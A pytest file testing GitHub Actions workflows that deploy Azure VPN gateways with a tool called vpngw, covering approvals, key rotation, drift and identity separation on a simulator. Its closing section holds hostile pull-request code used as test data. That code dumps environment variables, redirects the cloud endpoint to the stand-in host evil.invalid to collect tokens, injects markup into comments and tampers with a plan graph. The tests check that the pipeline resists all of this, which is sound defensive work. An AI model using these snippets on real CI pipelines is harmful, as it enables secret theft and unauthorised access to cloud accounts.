"""The life of a repository: the workflows that we ship, job after job, each command a process, on the simulator.

Who the jobs are in Azure, and what they may do there, is what the commands of `vpngw init --github` have made of them.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.ci.conftest import PULL_REQUEST
from tests.ci.github_server import TOKEN, GithubServer
from tests.ci.organisation import KEYS, Organisation
from tests.ci.shipped import Repository, WorkflowRun
from tests.cli.conftest import CANARY, HUB, SPEED
from vpngw_iac.simulator import Principal

KEY = "shared_key: {source: env, name: BERLIN_PSK}}"
NIGHTLY, OFTEN = "17 3 * * *", "*/30 * * * *"
CONNECTION = "VpnConnection/vgw-hub/berlin"
EDITED = HUB.replace("192.168.10.0/24", "192.168.11.0/24")


@pytest.fixture
def repository(
    tmp_path_factory: pytest.TempPathFactory, github: GithubServer, organisation: Organisation
) -> Repository:
    """A repository whose owner has done what the hand-over says, before anything is deployed."""
    organisation.reset()
    return Repository(tmp_path_factory.mktemp("repository"), github, organisation, {"hub.yaml": HUB})


def results(run: WorkflowRun) -> dict[str, str]:
    """How its jobs went, without those that were skipped."""
    return {name: job.result for name, job in run.jobs.items() if job.result not in ("skipped", "")}


def deploy(repository: Repository) -> WorkflowRun:
    """What is on the default branch is planned, approved and applied."""
    run = repository.push().approve("production", "bob")
    assert run["apply / apply"].outputs == {"finished": "true"}, run["apply / apply"].text
    return run


@pytest.fixture
def deployed(repository: Repository) -> Repository:
    """The repository once its hub is deployed; that is done once for all tests."""
    if not repository.azure.reset("deployed"):
        deploy(repository)
        repository.azure.remember("deployed")
        repository.azure.reset("deployed")
    repository.numbers = 100
    return repository


def log(repository: Repository) -> list[dict[str, Any]]:
    """The runs that the state remembers, as its owner reads them."""
    folder = repository.root / "owner"
    folder.mkdir(exist_ok=True)
    (folder / "hub.yaml").write_text(repository.files["hub.yaml"], encoding="utf-8")
    return list(json.loads(repository.azure.vpngw(folder, "log", "hub.yaml", "--json"))["runs"])


def written(repository: Repository) -> list[str]:
    """What anybody has sent to Azure that is more than a question."""
    asked = repository.azure.server.simulator.requests
    return [f"{one.method} {one.path}" for one in asked if one.method in ("PUT", "PATCH", "DELETE")]


# --- from a pull request to tunnels ----------------------------------------------------------------------------------


def test_a_pull_request_is_commented_merged_approved_and_applied(repository: Repository) -> None:
    proposed = repository.pull_request().proceed()
    (comment,) = repository.github.comments[PULL_REQUEST]

    assert results(proposed) == {"plan / compile": "success", "plan / plan": "success", "comment / comment": "success"}
    assert "Plan: 7 to add" in comment["body"]
    assert proposed["plan / plan"].told["sealed"] == "false"
    digest = proposed["plan / plan"].outputs["digest"]
    assert "V-PROBE-01" in proposed["plan / plan"].page
    assert "title=V-PROBE-01" not in proposed["plan / plan"].text, "a planner may not write: nobody's line is to blame"

    run = repository.push(merged=True)
    assert results(run) == {"plan / seal": "success", "apply / approve": "waiting"}
    assert run["plan / seal"].told["sealed"] == "true"
    assert run["plan / seal"].outputs["digest"] == digest
    assert written(repository) == []
    run.approve("production", "bob")

    assert results(run) == {
        "plan / seal": "success", "apply / approve": "success", "apply / apply": "success", "verify / verify": "success"
    }  # fmt: skip
    for name in ("plan / seal", "apply / apply"):
        assert f"Same decisions as in [pull request {PULL_REQUEST}]" in run[name].page
    assert run["verify / verify"].outputs == {"verified": "true"}
    (told,) = log(repository)
    assert (told["approver"], told["digest"]) == ("bob", digest)
    assert str(told["url"]).endswith(f"/actions/runs/{run.id}")
    assert results(repository.push()) == {"plan / seal": "success"}, "nothing to do, and nobody is asked"


def test_tunnels_with_bgp_are_verified(repository: Repository) -> None:
    """Their gateways are asked by POST, which nobody may who only reads."""
    text = HUB.replace("sku: VpnGw1AZ}", "sku: VpnGw1AZ, bgp: {asn: 65010}}")
    text = text.replace("prefixes: [192.168.10.0/24]", "bgp: {asn: 65101, address: 192.168.10.1}")
    repository.calls["verify"]["with"]["minutes"] = "0.3"

    run = repository.push({"hub.yaml": text}).approve("production", "bob")

    assert run["verify / verify"].outputs == {"verified": "true"}
    assert "berlin  up " in run["verify / verify"].text, run["verify / verify"].text


def test_a_plan_that_failed_is_told_in_the_same_comment_and_so_is_the_next(repository: Repository) -> None:
    repository.pull_request().proceed()

    refused = repository.pull_request({"hub.yaml": HUB.replace("sku: VpnGw1AZ", "sku: Nothing")}).proceed()
    assert results(refused) == {"plan / compile": "failure", "comment / comment": "success"}
    (comment,) = repository.github.comments[PULL_REQUEST]
    assert "No plan was made." in comment["body"]
    assert f"/actions/runs/{refused.id}" in comment["body"]

    repository.pull_request().proceed()
    (comment,) = repository.github.comments[PULL_REQUEST]
    assert "Plan: 7 to add" in comment["body"]


def test_each_job_is_who_it_should_be(repository: Repository) -> None:
    proposed = repository.pull_request().proceed()
    keys = [asked for asked in repository.azure.door.asked if asked.container == KEYS]
    run = deploy(repository)

    jobs = [*proposed.jobs.values(), *run.jobs.values()]
    ran = {job.name: job.subject.partition("contoso/network:")[2] for job in jobs if job.steps}
    assert ran == {
        "plan / compile": "", "plan / plan": "pull_request", "comment / comment": "",
        "plan / seal": "ref:refs/heads/main", "apply / approve": "", "apply / apply": "environment:production-apply",
        "verify / verify": "ref:refs/heads/main",
    }  # fmt: skip
    for job in jobs:
        assert not job.steps or (f"Subject of this job's token: {job.subject}\n" in job.text) is bool(job.subject)
    assert {asked.status for asked in keys} <= {403}, "who plans pull requests has no key"
    assert run["apply / apply"].group == "vpngw-hub"


def test_somebody_who_is_no_writer_applies_nothing(repository: Repository) -> None:
    """The role of the application that applies was forgotten, or it was given the wrong credential."""
    azure = repository.azure
    given = azure.governance
    planner, writer = (given.principal(azure.caller_of(word)) for word in ("plan", "apply"))
    assert planner is not None
    assert writer is not None
    run = repository.push()

    def with_writer(changed: Principal) -> None:
        others = tuple(each for each in given.principals if each.client != writer.client)
        azure.server.simulator.governance = given.model_copy(update={"principals": (*others, changed)})

    with_writer(writer.model_copy(update={"grants": (planner.grants[0], *writer.grants[1:])}))
    refused = run.approve("production", "bob")["apply / apply"]
    with_writer(writer.model_copy(update={"credentials": planner.credentials}))
    stranger = run.again("apply / apply")["apply / apply"]

    assert (refused.result, refused.code) == ("failure", 3)
    assert "Microsoft.Network/virtualNetworks/write" in refused.text
    assert (stranger.result, stranger.code) == ("failure", 3)
    assert "AADSTS700213" in stranger.text
    assert azure.server.simulator.documents() == {}


def test_environments_that_nobody_guards_end_it_before_anything_is_applied(repository: Repository) -> None:
    repository.guard("production", ["main"], [])

    refused = repository.push()
    repository.inputs["unreviewed"] = "true"
    allowed = repository.push()

    assert results(refused) == {"plan / seal": "success", "apply / approve": "failure"}
    assert refused["apply / approve"].code == 4
    assert "production has no required reviewers" in refused["apply / approve"].text
    assert allowed["apply / apply"].result == "success"


def test_a_digest_that_was_typed_in_is_the_only_one_that_is_applied(repository: Repository) -> None:
    digest = repository.pull_request().proceed()["plan / plan"].outputs["digest"]

    wrong = repository.dispatch(reviewed="0" * 64).approve("production", "bob")["apply / apply"]
    right = repository.dispatch(reviewed=digest).approve("production", "bob")["apply / apply"]

    assert (wrong.result, wrong.code) == ("failure", 8)
    assert right.result == "success"


# --- keys ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("beside", [False, True], ids=["alone", "beside another edit"])
def test_a_rotation_is_a_reviewed_edit(deployed: Repository, beside: bool) -> None:
    text = (EDITED if beside else HUB).replace(KEY, KEY[:-1] + ', rotation: "2026-11"}')
    deployed.secrets = f"BERLIN_PSK={CANARY[::-1]}\n"

    proposed = deployed.pull_request({"hub.yaml": text}).proceed()
    run = deployed.push({"hub.yaml": text}, merged=True)
    before = len(written(deployed))
    run.approve("production", "bob")

    assert proposed["plan / plan"].outputs["changes"] == run["plan / seal"].outputs["changes"] == "true"
    assert proposed["plan / plan"].outputs["digest"] == run["plan / seal"].outputs["digest"]
    touched = "".join(written(deployed)[before:])
    assert "/connections/" in touched
    assert ("/localNetworkGateways/" in touched) is beside
    assert key_of(deployed) == CANARY[::-1]
    assert deployed.push(run.files)["plan / seal"].outputs["changes"] == "false"


def test_a_key_is_set_again_by_hand(deployed: Repository) -> None:
    deployed.secrets = f"BERLIN_PSK={CANARY[::-1]}\n"

    run = deployed.dispatch(resend=CONNECTION)
    assert key_of(deployed) == CANARY
    run.approve("production", "bob")

    assert run["apply / apply"].outputs == {"finished": "true"}
    assert key_of(deployed) == CANARY[::-1]


def key_of(repository: Repository) -> str:
    """The key that Azure has."""
    (connection,) = [name for name in repository.azure.server.simulator.documents() if "/connections/" in name]
    return str(repository.azure.read(connection)["properties"]["sharedKey"])


# --- what goes otherwise ---------------------------------------------------------------------------------------------


def cancelled(repository: Repository) -> WorkflowRun:
    """A run that somebody cancels while its gateway is made, which Azure then goes on with."""
    run = repository.push()
    repository.azure.pace.set(60)
    run.cancel("apply / apply", at="VpnGateway/vgw-hub: create started")
    run.approve("production", "bob")
    job = run["apply / apply"]
    assert (job.result, job.code) == ("cancelled", 130)
    assert results(run)["apply / apply"] == "cancelled"
    assert "verify / verify" not in results(run)
    repository.azure.pace.set(float(SPEED))
    return run


def test_a_cancelled_apply_is_resumed_and_finished_without_a_new_review(repository: Repository) -> None:
    """By hand: somebody runs the job again."""
    repository.calls["resume"]["with"]["finish"] = "false"
    run = cancelled(repository)
    before = written(repository)

    waited = repository.schedule(OFTEN)
    assert results(waited) == {"resume / wait": "success"}
    assert waited["resume / wait"].outputs == {"finished": "true", "remainder": "true"}
    assert written(repository) == before, "who waits may not write"
    run.again("apply / apply")

    assert run["apply / apply"].outputs == {"finished": "true"}
    assert len(repository.github.approvals[run.id]) == 1
    assert [told["outcome"] for told in log(repository)] == ["interrupted", "succeeded", "succeeded"]


def test_a_cancelled_apply_is_resumed_and_finished_by_itself_where_that_is_wanted(repository: Repository) -> None:
    run = cancelled(repository)
    digest = run["plan / seal"].outputs["digest"]

    resumed = repository.schedule(OFTEN)

    assert results(resumed) == {"resume / wait": "success", "resume / finish": "success"}
    finish = resumed["resume / finish"]
    assert (finish.outputs, finish.group) == ({"finished": "true"}, run["apply / apply"].group)
    assert finish.subject.endswith(":environment:production-finish")
    assert [(told["outcome"], told["digest"], told["approver"]) for told in log(repository)][::2] == [
        ("interrupted", digest, "bob"), ("succeeded", digest, "bob"),
    ]  # fmt: skip
    idle = repository.schedule(OFTEN)
    assert results(idle) == {"resume / wait": "success"}
    assert "Nothing of hub is running." in idle["resume / wait"].text


def test_a_cancelled_apply_ends_although_the_store_is_silent(repository: Repository) -> None:
    """Who is killed in the middle of it has said nothing, and the exit code is the one of a crash."""
    run = repository.push()
    repository.azure.pace.set(60)
    answers = repository.azure.door.answers
    run.cancel("apply / apply", at="VpnGateway/vgw-hub: create started", just_before=answers.clear)
    try:
        job = run.approve("production", "bob")["apply / apply"]
    finally:
        answers.set()

    assert (job.result, job.code) == ("cancelled", 130)
    assert "Cancelled" in job.text


def test_an_older_plan_that_waits_is_superseded(deployed: Repository) -> None:
    older = deployed.push({"hub.yaml": EDITED})
    newer = deployed.push({"hub.yaml": HUB.replace("192.168.10.0/24", "192.168.12.0/24")})

    refused = older.approve("production", "bob")["apply / apply"]
    applied = newer.approve("production", "bob")["apply / apply"]

    assert (refused.result, refused.code) == ("failure", 8)
    assert f"/actions/runs/{newer.id}" in refused.page
    assert "superseded" in refused.text
    assert applied.outputs == {"finished": "true"}


def test_drift_is_an_issue_that_a_failure_keeps(deployed: Repository) -> None:
    azure, issues = deployed.azure, deployed.github.issues
    (network,) = [found for found in azure.server.simulator.documents() if found.endswith("/vnet-hub")]

    def by_hand(*prefixes: str) -> None:
        azure.server.simulator.set(network, {"properties.addressSpace.addressPrefixes": list(prefixes)})

    assert deployed.schedule(NIGHTLY)["drift / drift"].outputs == {"drift": "false"}
    by_hand("10.1.0.0/16", "10.9.0.0/16")
    found = deployed.schedule(NIGHTLY)["drift / drift"]
    assert (found.result, found.outputs) == ("failure", {"drift": "true"})
    (issue,) = issues
    assert issue["state"] == "open"
    azure.server.simulator.governance = azure.governance.model_copy(update={"principals": ()})
    failed = deployed.schedule(NIGHTLY)["drift / drift"]
    assert (failed.result, issue["state"], "may be out of date" in issue["body"]) == ("failure", "open", True)
    azure.server.simulator.governance = azure.governance
    by_hand("10.1.0.0/16")
    assert deployed.schedule(NIGHTLY)["drift / drift"].result == "success"
    assert [each["state"] for each in issues] == ["closed"]


def test_two_deployments_in_one_repository_know_nothing_of_each_other(repository: Repository) -> None:
    spoke = HUB.replace("name: hub\n", "name: spoke\n", 1).replace("rg-hub", "rg-spoke")
    files = {"hub.yaml": HUB, "spoke.yaml": spoke}
    repository.deploys_also("spoke", "spoke.yaml", spoke)

    proposed = repository.pull_request(files).proceed()
    run = repository.push(files, merged=True).approve("production", "bob")

    assert results(proposed)["comment / comment"] == "success"
    (comment,) = repository.github.comments[PULL_REQUEST]
    for name in ("plan", "plan-spoke"):
        assert proposed[f"{name} / plan"].outputs["digest"] in comment["body"]
        assert run[f"{name} / seal"].outputs["digest"] == proposed[f"{name} / plan"].outputs["digest"]
    for name, group in (("apply", "vpngw-hub"), ("apply-spoke", "vpngw-spoke")):
        job = run[f"{name} / apply"]
        assert (job.result, job.group) == ("success", group)
        assert "Same decisions as in" in job.page
    again = repository.push(files)
    assert again["plan / seal"].outputs["changes"] == again["plan-spoke / seal"].outputs["changes"] == "false"


# --- people who mean no good -----------------------------------------------------------------------------------------

HOSTILE = """
import atexit, json, os
from pathlib import Path
from vpngw_iac.blueprints.load import load

seen = json.dumps(dict(os.environ))
Path(os.environ["HOME"], "seen").write_text(seen)
Path(os.environ["GITHUB_ENV"]).write_text("VPNGW_CLOUD=https://evil.invalid\\n")
text = Path("base.yaml").read_text().replace("NOTE", "@everyone <img src=x> ::add-mask::x ](https://x.example)")
Path("made.yaml").write_text(text.replace("SEEN", json.dumps(seen[:200])))
blueprint = load("made.yaml").blueprint
"""
ELSEWHERE = """
def elsewhere():
    graph = Path(os.environ["RUNNER_TEMP"], "graph.json")
    if graph.exists():
        graph.write_text(graph.read_text().replace("11111111-1111-4111-8111", "22222222-2222-4222-8222"))

atexit.register(elsewhere)
"""
BASE = HUB.replace("name: hub\n", "name: hub\ntags: {note: 'NOTE', seen: SEEN}\n", 1)
EVIL = {
    "hub.py": HOSTILE,
    "base.yaml": BASE.replace("name: BERLIN_PSK", "name: GITHUB_TOKEN"),
    "vpngw.toml": 'cloud = "https://evil.invalid"\n',
}
SECRETS = (CANARY, TOKEN, "ACTIONS_ID_TOKEN", "GITHUB_TOKEN", "AZURE_CLIENT", "VPNGW_STATE")


def test_a_hostile_pull_request_gets_nothing(deployed: Repository) -> None:
    """What its code sees is worth nothing, what it makes is shown as it is, and whoever is asked refuses."""
    deployed.plans("hub.py")
    before = written(deployed), deployed.azure.stored()

    run = deployed.pull_request(EVIL).proceed()

    assert results(run) == {"plan / compile": "success", "plan / plan": "success", "comment / comment": "success"}
    (seen,) = deployed.root.glob("runner-*-plan-compile/seen")
    assert [secret for secret in SECRETS if secret in seen.read_text(encoding="utf-8")] == []
    (comment,) = deployed.github.comments[PULL_REQUEST]
    prose = comment["body"].replace("&#8203;", "\u200b")
    assert "@everyone" not in prose.split("<details>")[0]
    assert "<img" not in prose.split("```text")[0].replace("\\\\<img", "")
    assert TOKEN not in prose
    assert CANARY not in prose
    assert (written(deployed), deployed.azure.stored()) == before
    assert deployed.github.issues == []
    assert {asked.status for asked in deployed.azure.door.asked if asked.container == KEYS} <= {403}


def test_a_graph_that_was_made_up_reaches_no_other_subscription(deployed: Repository) -> None:
    deployed.plans("hub.py")
    base = HUB.replace("name: hub\n", "name: hub\ntags: {note: 'NOTE', seen: SEEN}\n", 1)

    run = deployed.pull_request({"hub.py": HOSTILE + ELSEWHERE, "base.yaml": base}).proceed()

    assert results(run) == {"plan / compile": "success", "plan / plan": "failure", "comment / comment": "success"}
    assert "22222222-2222-4222-8222-111111111111" in run["plan / plan"].text
    asked = deployed.azure.server.simulator.requests
    assert [one.path for one in asked if "22222222" in one.path] == []


def test_a_pull_request_that_changes_the_workflow_is_nobody_else(deployed: Repository) -> None:
    """It says that it is the writer, and that it may apply."""
    deployed.calls["plan"]["with"]["pull-request-client-id"] = "${{ vars.VPNGW_APPLY_CLIENT_ID }}"
    deployed.calls["plan"]["with"]["environment"] = "production-apply"
    deployed.calls["apply"]["if"] = "true"
    before = written(deployed)

    run = deployed.pull_request().proceed()

    assert results(run) == {"plan / compile": "success", "plan / plan": "failure", "comment / comment": "success"}
    assert run["plan / plan"].code == 3
    assert "AADSTS700213" in run["plan / plan"].text
    assert written(deployed) == before


def test_a_fork_is_validated_and_nothing_more(repository: Repository) -> None:
    run = repository.pull_request(fork=True).proceed()

    assert results(run) == {"plan / compile": "success"}
    assert repository.github.archives == {}, "no graph is kept"
    assert repository.azure.door.asked == []
    assert list(repository.azure.server.simulator.requests) == []


@pytest.mark.parametrize("version", ["main", "v1", "0123456", "refs/pull/12/merge"])
def test_a_version_that_can_move_is_refused_before_anything_is_fetched(repository: Repository, version: str) -> None:
    repository.inputs["version"] = version

    run = repository.push()

    assert results(run) == {"plan / seal": "failure"}
    assert (run["plan / seal"].code, len(run["plan / seal"].steps)) == (64, 1)


def test_a_cloud_that_the_repository_names_is_refused_beside_an_identity(deployed: Repository) -> None:
    """Whoever may merge could name a cloud that collects tokens."""
    run = deployed.push({**deployed.files, "vpngw.toml": 'cloud = "https://evil.invalid"\n'})

    assert results(run) == {"plan / seal": "failure"}
    assert run["plan / seal"].code == 64
    assert "vpngw.toml" in run["plan / seal"].text
